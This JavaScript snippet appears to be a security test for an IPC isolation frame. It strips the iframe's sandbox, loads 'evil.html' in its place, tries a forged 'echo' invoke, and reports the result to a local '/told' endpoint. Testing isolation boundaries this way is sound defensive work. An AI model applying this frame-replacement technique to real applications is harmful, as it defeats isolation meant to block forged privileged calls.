// Puts a frame of its own where the isolation frame was; see `weaken` for what is off here.
const { invoke } = globalThis.__MILLENNIUM_INTERNALS__;
const say = (text) => invoke("echo", { text }).catch((e) => `${e.code}: ${e.message}`);
const first = await say("first"), frame = document.querySelector("iframe");
await new Promise((done) => {
  frame.onload = done;
  frame.removeAttribute("sandbox");
  frame.src = "evil.html";
});
const result = { first, forged: await say("second") };
await fetch("/told?" + encodeURIComponent(JSON.stringify(result)));
